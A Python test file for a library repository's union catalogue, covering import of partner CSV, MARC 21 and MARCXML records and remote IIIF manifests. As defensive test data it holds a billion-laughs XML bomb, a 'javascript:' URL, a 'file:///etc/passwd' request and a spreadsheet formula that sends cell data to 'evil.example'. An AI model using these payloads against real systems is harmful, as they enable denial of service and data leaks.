"""The union catalogue: a partner's open-data CSV, MARC 21 and MARCXML files, and
remote IIIF manifests become metadata-only items that are found by search."""

from __future__ import annotations

import csv
import html
import io
import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pymarc
import pytest
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from pymarc import Field, Indicators, Record, Subfield

from image_server.policy import parse_networks
from repository import create_app
from repository.extensions import db
from repository.models import Collection, Item
from repository.services.errors import Refused
from repository.services.linked_data import CSV_COLUMNS
from repository.services.union.remote_manifest import fetch_manifest, register_manifest
from tests.helpers import reconfigure

PARTNER = "http://thuvien-hue.example"


def _items(app: Flask, slug: str) -> list[Item]:
    with app.app_context():
        items = list(
            db.session.execute(
                db.select(Item)
                .join(Collection)
                .where(Collection.slug == slug)
                .order_by(Item.created_at, Item.id)
            ).scalars()
        )
        for item in items:
            assert item.images is not None  # loaded before the session goes
            db.session.expunge(item)
        return items


def _count(app: Flask) -> int:
    with app.app_context():
        return int(db.session.execute(db.select(db.func.count(Item.id))).scalar_one())


@pytest.fixture
def partner_export(tmp_path: Path, make_pages: Any) -> dict[str, Any]:
    """Another library's instance: two items ingested, described, published, exported."""
    instance = tmp_path / "partner"
    partner = create_app(
        {
            "INSTANCE_PATH": str(instance),
            "TESTING": True,
            "SECRET_KEY": "partner-secret",
            "PUBLIC_URL": PARTNER,
        }
    )
    with partner.app_context():
        db.create_all()
    for number, name in enumerate(("kieu", "luc-van-tien")):
        make_pages(count=1, width=240 + number, height=180, name=name)
    batch = tmp_path / "batch.csv"
    batch.write_text(
        "path,title,title_en,creator,subject,date,identifier\n"
        "kieu,Truyện Kiều,The Tale of Kiều,Nguyễn Du,Thơ Nôm|Văn học,1870,R.1234\n"
        "luc-van-tien,Lục Vân Tiên,,Nguyễn Đình Chiểu,Truyện thơ,1889,R.99\n",
        encoding="utf-8",
    )
    runner = partner.test_cli_runner()
    result = runner.invoke(args=["ingest", str(batch), "--collection", "nom", "--publish"])
    assert result.exit_code == 0, result.output
    export = tmp_path / "export"
    result = runner.invoke(args=["export-opendata", str(export)])
    assert result.exit_code == 0, result.output
    with partner.app_context():
        ids = {item.title["vi"]: item.id for item in db.session.execute(db.select(Item)).scalars()}
    return {"csv": export / "items.csv", "ids": ids, "app": partner}


def test_open_data_csv_round_trips(
    app: Flask, runner: FlaskCliRunner, client: FlaskClient, partner_export: dict[str, Any]
) -> None:
    path = partner_export["csv"]
    args = ["import", str(path), "--collection", "hue", "--institution", "Thư viện Huế"]
    result = runner.invoke(args=[*args, "--publish"])
    assert result.exit_code == 0, result.output
    assert "2 new, 0 updated, 2 published" in result.output
    items = {item.title["vi"]: item for item in _items(app, "hue")}
    assert set(items) == {"Truyện Kiều", "Lục Vân Tiên"}
    kieu = items["Truyện Kiều"]
    source_id = partner_export["ids"]["Truyện Kiều"]
    assert kieu.title == {"vi": "Truyện Kiều", "en": "The Tale of Kiều"}
    assert [v["value"] for v in kieu.dc["creator"]] == ["Nguyễn Du"]
    assert [v["value"] for v in kieu.dc["subject"]] == ["Thơ Nôm", "Văn học"]
    assert kieu.year_start == 1870 and kieu.images == [] and kieu.status == "published"
    assert kieu.source_institution == "Thư viện Huế" and kieu.access == "open"
    assert kieu.source_url == f"{PARTNER}/items/{source_id}"
    assert kieu.remote_manifest == f"{PARTNER}/iiif/{source_id}/manifest"
    assert [v["value"] for v in items["Lục Vân Tiên"].dc["creator"]] == ["Nguyễn Đình Chiểu"]

    # Found without diacritics; the page names the holder and links to its record.
    found = client.get("/search?q=nguyen dinh chieu").get_data(as_text=True)
    assert "Lục Vân Tiên" in found and "Truyện Kiều" not in found
    page = client.get(f"/items/{kieu.id}").get_data(as_text=True)
    assert "Thư viện Huế" in page and f'href="{PARTNER}/items/{source_id}"' in page

    # Our own export of the imported records imports again as the same records.
    again = runner.invoke(args=[*args, "--publish"])
    assert again.exit_code == 0 and "0 new, 2 updated" in again.output
    assert _count(app) == 2


def test_a_bom_is_accepted(app: Flask, runner: FlaskCliRunner, tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    path.write_text(
        "title_vi,creator,url\nĐại Việt sử ký toàn thư,Ngô Sĩ Liên,https://x.example/a\n",
        encoding="utf-8-sig",
    )
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    result = runner.invoke(args=["import", str(path), "--collection", "bom"])
    assert result.exit_code == 0, result.output
    (item,) = _items(app, "bom")
    assert item.title == {"vi": "Đại Việt sử ký toàn thư"} and item.status == "draft"
    assert item.dc["creator"] == [{"value": "Ngô Sĩ Liên", "lang": ""}]


def test_one_bad_row_refuses_the_whole_file(
    app: Flask, runner: FlaskCliRunner, tmp_path: Path
) -> None:
    rows = [
        {"title_vi": "Tốt", "url": "https://x.example/1"},
        {"title_vi": "", "title_en": "", "creator": "Không tên"},
        {"title_vi": "Năm sai", "year_start": "khoảng 1800"},
        {"title_vi": "Liên kết độc", "url": "javascript:alert(1)"},
        {"title_vi": "Cũng tốt"},
    ]
    out = io.StringIO()
    writer = csv.DictWriter(out, CSV_COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    path = tmp_path / "bad.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    result = runner.invoke(args=["import", str(path), "--collection", "moi", "--publish"])
    assert result.exit_code == 1
    assert "3 bad rows; nothing was imported" in result.output
    assert "row 2 (line 3): no title" in result.output
    assert "row 3 (line 4): year_start is not a year" in result.output
    assert "row 4 (line 5): url is not an http(s) address" in result.output
    assert _count(app) == 0
    with app.app_context():  # not even the collection it named
        assert db.session.execute(db.select(Collection).filter_by(slug="moi")).scalar() is None


def _marc_record(title: str, author: str, year: str, utf8_leader: bool = True) -> Record:
    record = Record(force_utf8=utf8_leader)
    fixed = f"850101m{year}1880vm {' ' * 17}vie d"
    record.add_field(
        Field(tag="001", data=f"VN{year}"),
        Field(tag="008", data=fixed),
        Field(tag="041", indicators=Indicators("0", " "), subfields=[Subfield("a", "vielzh")]),
        Field(tag="099", indicators=Indicators(" ", " "), subfields=[Subfield("a", "R.1234")]),
        Field(
            tag="100",
            indicators=Indicators("1", " "),
            subfields=[Subfield("a", f"{author},"), Subfield("d", "1765-1820.")],
        ),
        Field(
            tag="245",
            indicators=Indicators("1", "0"),
            subfields=[
                Subfield("a", f"{title} :"),
                Subfield("b", "đoạn trường tân thanh /"),
                Subfield("c", f"{author}."),
            ],
        ),
        Field(
            tag="264",
            indicators=Indicators(" ", "1"),
            subfields=[
                Subfield("a", "Huế :"),
                Subfield("b", "Quan Văn Đường,"),
                Subfield("c", f"[{year}]"),
            ],
        ),
        Field(
            tag="520",
            indicators=Indicators(" ", " "),
            subfields=[Subfield("a", "Truyện thơ lục bát, bản khắc gỗ.")],
        ),
        Field(
            tag="650",
            indicators=Indicators(" ", "4"),
            subfields=[Subfield("a", "Thơ Nôm"), Subfield("x", "Lịch sử")],
        ),
        Field(tag="651", indicators=Indicators(" ", "4"), subfields=[Subfield("a", "Huế")]),
        Field(
            tag="540",
            indicators=Indicators(" ", " "),
            subfields=[Subfield("a", "Tự do sử dụng cho nghiên cứu")],
        ),
        Field(
            tag="856",
            indicators=Indicators("4", "0"),
            subfields=[Subfield("u", f"https://opac.example/record/{year}")],
        ),
        Field(
            tag="856",
            indicators=Indicators("4", "1"),
            subfields=[
                Subfield("3", "IIIF manifest"),
                Subfield("u", f"https://iiif.example/{year}/manifest.json"),
            ],
        ),
    )
    return record


def _check_kieu(item: Item) -> None:
    assert item.title == {"vi": "Truyện Kiều : đoạn trường tân thanh"}
    assert item.dc["creator"] == [{"value": "Nguyễn Du, 1765-1820", "lang": "vi"}]
    assert item.year_start == 1870 and item.year_end == 1880
    assert item.dc["subject"] == [{"value": "Thơ Nôm -- Lịch sử", "lang": "vi"}]
    assert item.dc["coverage"] == [{"value": "Huế", "lang": "vi"}]
    assert item.dc["publisher"] == [{"value": "Quan Văn Đường", "lang": "vi"}]
    assert item.dc["date"] == [{"value": "[1870]", "lang": "vi"}]
    assert [v["value"] for v in item.dc["language"]] == ["vie", "lzh"]
    assert item.dc["identifier"] == [{"value": "R.1234", "lang": ""}]
    assert item.summary == {"vi": "Truyện thơ lục bát, bản khắc gỗ."}
    assert item.source_url == "https://opac.example/record/1870"
    assert item.remote_manifest == "https://iiif.example/1870/manifest.json"
    assert item.rights == ""  # a statement in words is not a rights URI


def test_marc21_binary(
    app: Flask, runner: FlaskCliRunner, client: FlaskClient, tmp_path: Path
) -> None:
    path = tmp_path / "catalogue.mrc"
    damaged = b"00026" + b"x" * 20 + b"\x1d"  # the right length, nothing readable inside
    path.write_bytes(
        _marc_record("Truyện Kiều", "Nguyễn Du", "1870").as_marc()
        + damaged
        # UTF-8 though the leader does not say so, as many systems write it
        + _marc_record("Hoa tiên", "Nguyễn Huy Tự", "1871", utf8_leader=False).as_marc()
    )
    args = ["import", str(path), "--collection", "marc", "--institution", "Thư viện Quốc gia"]
    result = runner.invoke(args=[*args, "--publish"])
    assert result.exit_code == 1, result.output  # one record was skipped, and said so
    assert "2 new, 0 updated, 2 published, 1 skipped" in result.output
    assert "skipped record 2: unreadable" in result.output
    kieu, hoa = _items(app, "marc")
    _check_kieu(kieu)
    assert kieu.source_institution == "Thư viện Quốc gia"
    assert hoa.title == {"vi": "Hoa tiên : đoạn trường tân thanh"}
    assert hoa.dc["creator"][0]["value"] == "Nguyễn Huy Tự, 1765-1820"
    found = client.get("/search?q=truyen kieu").get_data(as_text=True)
    assert f"/items/{kieu.id}" in found and f"/items/{hoa.id}" not in found


def test_marcxml(app: Flask, runner: FlaskCliRunner, client: FlaskClient, tmp_path: Path) -> None:
    records = b"".join(
        pymarc.record_to_xml(_marc_record(title, "Nguyễn Du", year), namespace=True)
        for title, year in (("Truyện Kiều", "1870"), ("Văn tế thập loại chúng sinh", "1871"))
    )
    path = tmp_path / "catalogue.xml"
    path.write_bytes(
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<collection xmlns="http://www.loc.gov/MARC21/slim">' + records + b"</collection>"
    )
    result = runner.invoke(args=["import", str(path), "--collection", "xml", "--publish"])
    assert result.exit_code == 0, result.output
    kieu, van_te = _items(app, "xml")
    _check_kieu(kieu)
    assert van_te.title["vi"].startswith("Văn tế thập loại chúng sinh")
    found = client.get("/search?q=van te thap loai").get_data(as_text=True)
    assert f"/items/{van_te.id}" in found


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE collection [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<collection xmlns="http://www.loc.gov/MARC21/slim"><record><leader>00000nam a2200000 a 4500</leader>
<datafield tag="245" ind1="0" ind2="0"><subfield code="a">&lol9;</subfield></datafield>
</record></collection>"""


def test_hostile_marcxml_is_refused(app: Flask, runner: FlaskCliRunner, tmp_path: Path) -> None:
    laughs = tmp_path / "laughs.xml"
    laughs.write_bytes(BILLION_LAUGHS)
    result = runner.invoke(args=["import", str(laughs), "--collection", "x", "--publish"])
    assert result.exit_code == 1
    assert "DOCTYPE or entity declarations is refused; nothing was imported" in result.output
    broken = tmp_path / "broken.xml"
    broken.write_bytes(b'<collection xmlns="http://www.loc.gov/MARC21/slim"><record>')
    result = runner.invoke(args=["import", str(broken), "--collection", "x"])
    assert result.exit_code == 1 and "not well-formed XML" in result.output
    not_marc = tmp_path / "notes.mrc"
    not_marc.write_text("id,title\n1,Sách\n")
    result = runner.invoke(args=["import", str(not_marc), "--collection", "x"])
    assert result.exit_code == 1 and "no readable MARC records" in result.output
    assert _count(app) == 0


# -- remote manifests ------------------------------------------------------------------


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def files_server(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    """A folder served over real HTTP on 127.0.0.1, as another library's site."""
    root = tmp_path / "site"
    root.mkdir()
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(root)))
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield root, f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_register_remote_manifests(
    app: Flask,
    runner: FlaskCliRunner,
    client: FlaskClient,
    make_pages: Any,
    files_server: tuple[Path, str],
) -> None:
    root, base = files_server
    # Real manifests (3.0 and 2.1) and a real collection, as this repository writes them.
    folder = make_pages(count=2, width=240, height=180, name="dai-nam")
    args = ["ingest", str(folder), "--collection", "goc", "--title", "Đại Nam thực lục"]
    assert runner.invoke(args=[*args, "--publish"]).exit_code == 0
    (original,) = _items(app, "goc")
    with app.app_context():
        item = db.session.get(Item, original.id)
        item.summary = {"vi": "Bộ chính sử triều Nguyễn"}
        item.dc = {"creator": [{"value": "Quốc sử quán triều Nguyễn", "lang": "vi"}]}
        item.year_start = 1821
        db.session.commit()
    assert runner.invoke(args=["publish", original.id]).exit_code == 0
    (root / "manifest.json").write_bytes(client.get(f"/iiif/{original.id}/manifest").data)
    (root / "v2.json").write_bytes(client.get(f"/iiif/2/{original.id}/manifest").data)
    (root / "collection.json").write_bytes(client.get("/iiif/collection/goc").data)
    (root / "page.html").write_text("<html><body>Không phải manifest</body></html>")

    url = f"{base}/manifest.json"
    result = runner.invoke(args=["register-manifest", url, "--collection", "tu-xa"])
    assert result.exit_code == 0, result.output
    (remote,) = _items(app, "tu-xa")
    assert remote.title == {"vi": "Đại Nam thực lục"}
    assert remote.summary == {"vi": "Bộ chính sử triều Nguyễn"}
    assert remote.dc["creator"] == [{"value": "Quốc sử quán triều Nguyễn", "lang": "vi"}]
    assert remote.year_start == 1821 and remote.images == []
    assert remote.remote_manifest == url
    assert remote.source_url == f"http://127.0.0.1:8000/items/{original.id}"
    assert remote.source_institution == "Thư viện Tàng Thư"  # its provider
    assert remote.status == "published"

    # The item page opens the remote manifest in Mirador; ours redirects to it.
    page = client.get(f"/items/{remote.id}").get_data(as_text=True)
    assert f'data-manifest="{html.escape(url)}"' in page
    answer = client.get(f"/iiif/{remote.id}/manifest")
    assert answer.status_code == 303 and answer.headers["Location"] == url
    assert f"/items/{remote.id}" in client.get("/search?q=dai nam thuc luc").get_data(as_text=True)

    # Registering the same URL again updates; a 2.1 manifest works as well.
    args = ["register-manifest", url, "--collection", "tu-xa", "--institution", "Viện Hán Nôm"]
    assert runner.invoke(args=args).exit_code == 0
    (remote,) = _items(app, "tu-xa")
    assert remote.source_institution == "Viện Hán Nôm"
    v2 = f"{base}/v2.json"
    assert runner.invoke(args=["register-manifest", v2, "--collection", "v2"]).exit_code == 0
    (older,) = _items(app, "v2")
    assert older.title == {"vi": "Đại Nam thực lục"} and older.remote_manifest == v2

    refusals = {
        "collection.json": "not a IIIF manifest (Collection)",
        "page.html": "is not JSON (text/html), not a manifest",
        "missing.json": "answered HTTP 404",
    }
    before = _count(app)
    for name, message in refusals.items():
        result = runner.invoke(args=["register-manifest", f"{base}/{name}", "--collection", "z"])
        assert result.exit_code == 1 and message in result.output, result.output
    result = runner.invoke(args=["register-manifest", "file:///etc/passwd", "--collection", "z"])
    assert result.exit_code == 1 and "only http and https" in result.output
    assert _count(app) == before


def test_remote_manifests_only_from_allowed_networks(
    app: Flask, runner: FlaskCliRunner, files_server: tuple[Path, str]
) -> None:
    root, base = files_server
    (root / "manifest.json").write_text('{"type": "Manifest"}')
    url = f"{base}/manifest.json"
    refused = "127.0.0.1 is a private or local address (loopback)"
    hint = "add it (e.g. 127.0.0.1/32) to TANGTHU_HARVEST_ALLOW_NETWORKS"
    before = _count(app)

    with pytest.raises(Refused, match=r"127\.0\.0\.1 is a private or local address"):
        fetch_manifest(url)  # nothing allowed: the default
    allowed = fetch_manifest(url, allow_networks=parse_networks("10.0.0.0/8,127.0.0.1/32"))
    assert allowed == {"type": "Manifest"}
    with app.app_context():
        collection = Collection(slug="tu-xa", title={"vi": "Từ xa"})
        with pytest.raises(Refused) as caught:
            register_manifest(url, collection, allow_networks=parse_networks(["fd00::/8"]))
        assert refused in str(caught.value) and hint in str(caught.value)

    reconfigure(app, HARVEST_ALLOW_NETWORKS=[])
    result = runner.invoke(args=["register-manifest", url, "--collection", "tu-xa"])
    assert result.exit_code == 1, result.output
    assert f"cannot register {url}: {refused}" in result.output and hint in result.output

    with pytest.raises(ValueError) as wrong:  # checked when the app is made, before any run
        reconfigure(app, HARVEST_ALLOW_NETWORKS="127.0.0.0/8,not-a-network")
    assert str(wrong.value) == (
        "TANGTHU_HARVEST_ALLOW_NETWORKS: 'not-a-network' is not a network:"
        " write one such as 10.0.0.0/8 or fd00::/8"
    )
    assert _count(app) == before


def test_formula_cells_are_neutralised_and_read_back_unchanged(
    app: Flask, runner: FlaskCliRunner, make_pages: Any, tmp_path: Path
) -> None:
    """A harvested record whose cells a spreadsheet would run as formulas (OWASP CSV
    injection) is exported with a leading quote, and our import takes it off again."""
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    folder = make_pages(count=1, name="hostile")
    args = ["ingest", str(folder), "--collection", "doc", "--title", title, "--publish"]
    assert runner.invoke(args=args).exit_code == 0
    dc = {
        "creator": [{"value": "+Nguyễn Du", "lang": ""}],
        "subject": [{"value": "-2+3", "lang": ""}],
        "identifier": [{"value": "@SUM(A1:A9)", "lang": ""}],
        "publisher": [{"value": "'quoted already", "lang": ""}],
    }
    with app.app_context():
        item = db.session.execute(db.select(Item)).scalar_one()
        item.dc, item.year_start, item.year_end = dc, -111, -100
        db.session.commit()
    result = runner.invoke(args=["export-opendata", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    path = tmp_path / "out" / "items.csv"
    (row,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")))
    assert row["title_vi"] == "'" + title
    assert (row["creator"], row["subject"]) == ("'+Nguyễn Du", "'-2+3")
    assert (row["identifier"], row["year_start"]) == ("'@SUM(A1:A9)", "'-111")
    assert row["publisher"] == "'quoted already"  # nothing a spreadsheet would run
    assert row["id"] and not row["id"].startswith("'")

    result = runner.invoke(args=["import", str(path), "--collection", "copy"])
    assert result.exit_code == 0, result.output
    (copy,) = _items(app, "copy")
    assert copy.title["vi"] == title and (copy.year_start, copy.year_end) == (-111, -100)
    assert {key: [v["value"] for v in copy.dc[key]] for key in dc} == {
        key: [v["value"] for v in values] for key, values in dc.items()
    }


def test_spreadsheet_quoting_covers_every_formula_start() -> None:
    from repository.services.linked_data import from_spreadsheet, spreadsheet_safe

    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert spreadsheet_safe(text) == "'" + text and from_spreadsheet("'" + text) == text
    for text in ("", "Truyện Kiều", "'x", "1-2", "a=b"):
        assert spreadsheet_safe(text) == text and from_spreadsheet(text) == text
